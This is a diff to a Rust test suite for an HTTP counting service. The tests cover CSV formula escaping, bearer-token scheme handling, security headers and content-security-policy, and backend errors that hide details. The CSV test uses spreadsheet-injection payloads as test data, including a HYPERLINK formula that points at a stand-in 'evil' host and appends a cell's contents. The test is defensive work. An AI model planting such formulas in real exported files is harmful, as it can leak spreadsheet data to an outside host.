@@ -178,6 +178,56 @@ async fn filters_and_periods_select_the_counts() {
     server.stop().await.unwrap();
 }
 
+/// Paths and subjects come from any client: a CSV cell a spreadsheet would take for
+/// a formula starts with a quote; the JSON keeps the texts as they are.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn csv_cells_a_spreadsheet_would_run_start_with_a_quote() {
+    let (_, counter) = memory();
+    let server = Running::start(ServerConfig::new(), counter).await;
+    let day = noon("2026-11-26");
+    add_all(
+        &mut server.client().await,
+        vec![
+            add_with(
+                GET,
+                "=HYPERLINK(\"http://evil/\"&A1,\"x\")",
+                day,
+                Some("=1+1"),
+                None,
+            ),
+            add_with(GET, "/ok", day, Some("@SUM(A1)"), None),
+            add_with(GET, "/ok", day, Some("+1"), None),
+            add_with(GET, "/ok", day, Some("-1"), None),
+            add_with(GET, "/ok", day, Some("a=b"), None),
+        ],
+    )
+    .await;
+    let csv = totals(
+        &server,
+        "period=2026-11-26&group=endpoint,subject&format=csv",
+    )
+    .await;
+    assert_eq!(
+        csv.body,
+        "method,path,subject,total\r\n\
+         GET,/ok,'+1,1\r\n\
+         GET,/ok,'-1,1\r\n\
+         GET,/ok,'@SUM(A1),1\r\n\
+         GET,/ok,a=b,1\r\n\
+         GET,\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\",'=1+1,1\r\n"
+    );
+    let json = json_of(&server, "period=2026-11-26&group=endpoint,subject").await;
+    assert!(
+        json.as_array()
+            .unwrap()
+            .iter()
+            .any(|row| row["path"] == "=HYPERLINK(\"http://evil/\"&A1,\"x\")"
+                && row["subject"] == "=1+1"),
+        "{json}"
+    );
+    server.stop().await.unwrap();
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn csv_is_rfc_4180_byte_for_byte() {
     let server = started(ServerConfig::new()).await;
@@ -297,7 +347,7 @@ async fn a_token_guards_the_api_metrics_and_readiness_not_the_page() {
         for wrong in [
             "Bearer s3cre",
             "Bearer s3cret2",
-            "bearer s3cret",
+            "Bearers3cret",
             "s3cret",
             "Basic czNjcmV0",
         ] {
@@ -306,6 +356,12 @@ async fn a_token_guards_the_api_metrics_and_readiness_not_the_page() {
             assert!(refused.error().contains("refused"));
         }
         assert_eq!(server.get(path, &right).await.status, 200, "{path}");
+        // The scheme's name is case-insensitive (RFC 7235).
+        for scheme in ["bearer", "BEARER"] {
+            let token = format!("{scheme} s3cret");
+            let reply = server.get(path, &[("authorization", &token)]).await;
+            assert_eq!(reply.status, 200, "{path} {token}");
+        }
     }
     for open in ["/", "/healthz"] {
         assert_eq!(server.get(open, &[]).await.status, 200, "{open}");
@@ -345,37 +401,79 @@ async fn the_page_and_the_probes() {
     let missing = server.get("/nope", &[]).await;
     assert_eq!(missing.status, 404);
     assert_eq!(missing.json()["error"], "no such page");
-    let wrong_method = raw_status(&server, "POST /api/v1/totals?period=2026 HTTP/1.1").await;
-    assert_eq!(wrong_method, 405);
+    for request_line in [
+        "POST /api/v1/totals?period=2026 HTTP/1.1",
+        "DELETE /healthz HTTP/1.1",
+    ] {
+        let answer = raw_answer(&server, request_line).await;
+        assert!(answer.starts_with("HTTP/1.1 405"), "{answer}");
+        assert!(
+            answer.ends_with(r#"{"error":"this route answers GET (and HEAD) only"}"#),
+            "{answer}"
+        );
+    }
     server.stop().await.unwrap();
 }
 
-async fn raw_status(server: &Running, request_line: &str) -> u16 {
-    let answer = common::raw(
+/// Every HTTP answer (the page, the API, errors, the probes) carries the security
+/// headers; the page's policy lets exactly its own script run (the browser tests run
+/// it under that policy).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn http_answers_carry_the_security_headers() {
+    let server = started(ServerConfig::new()).await;
+    for path in [
+        "/",
+        "/healthz",
+        "/readyz",
+        "/metrics",
+        "/api/v1/totals?period=2026",
+        "/api/v1/totals?period=2026&format=csv",
+        "/api/v1/totals?period=nope",
+        "/nope",
+    ] {
+        let reply = server.get(path, &[]).await;
+        assert_eq!(reply.header("x-content-type-options"), "nosniff", "{path}");
+        assert_eq!(reply.header("x-frame-options"), "DENY", "{path}");
+        assert_eq!(reply.header("referrer-policy"), "no-referrer", "{path}");
+        let policy = reply.header("content-security-policy");
+        for part in [
+            "default-src 'none'",
+            "script-src 'sha256-",
+            "style-src 'unsafe-inline'",
+            "connect-src 'self'",
+            "frame-ancestors 'none'",
+        ] {
+            assert!(policy.contains(part), "{path}: {part} not in {policy:?}");
+        }
+        assert!(!policy.contains("script-src 'unsafe-inline'"), "{policy}");
+    }
+    server.stop().await.unwrap();
+}
+
+async fn raw_answer(server: &Running, request_line: &str) -> String {
+    common::raw(
         server.address,
         format!("{request_line}\r\nhost: x\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")
             .as_bytes(),
     )
-    .await;
-    answer
-        .split(' ')
-        .nth(1)
-        .and_then(|code| code.parse().ok())
-        .unwrap_or_else(|| panic!("no status line: {answer:?}"))
+    .await
 }
 
+/// A backend's error may name the database's user, host and port: the answer says
+/// only that the backend is unavailable, and which kind of failure it was.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn a_failing_backend_gets_503_with_its_error() {
+async fn a_failing_backend_gets_503_without_its_details() {
     let switch = Arc::new(Switch::default());
     let server = Running::start(ServerConfig::new(), switch.clone()).await;
     known_counts(&server).await;
     switch.set_down(true);
+    let unavailable = json!({ "error": "the backend is unavailable", "kind": "unavailable" });
     let reply = totals(&server, "period=2026").await;
     assert_eq!(reply.status, 503);
-    assert!(reply.error().contains("switched off"), "{}", reply.body);
+    assert_eq!(reply.json(), unavailable);
     let ready = server.get("/readyz", &[]).await;
     assert_eq!(ready.status, 503);
-    assert!(ready.error().contains("switched off"));
+    assert_eq!(ready.json(), unavailable);
     switch.set_down(false);
     assert_eq!(totals(&server, "period=2026").await.status, 200);
     server.stop().await.unwrap();
@@ -390,14 +488,13 @@ async fn a_backend_that_does_not_answer_gets_503_in_time() {
     let started = Instant::now();
     let reply = totals(&server, "period=2026").await;
     assert_eq!(reply.status, 503);
-    assert!(
-        reply.error().contains("did not answer within 0.3 s"),
-        "{}",
-        reply.body
+    assert_eq!(
+        reply.json(),
+        json!({ "error": "the backend is unavailable", "kind": "timeout" })
     );
     let ready = server.get("/readyz", &[]).await;
     assert_eq!(ready.status, 503);
-    assert!(ready.error().contains("within 300 ms"), "{}", ready.body);
+    assert_eq!(ready.json()["kind"], "unavailable", "{}", ready.body);
     assert!(started.elapsed() < Duration::from_secs(5));
     switch.set_hung(false);
     assert_eq!(server.get("/readyz", &[]).await.status, 200);
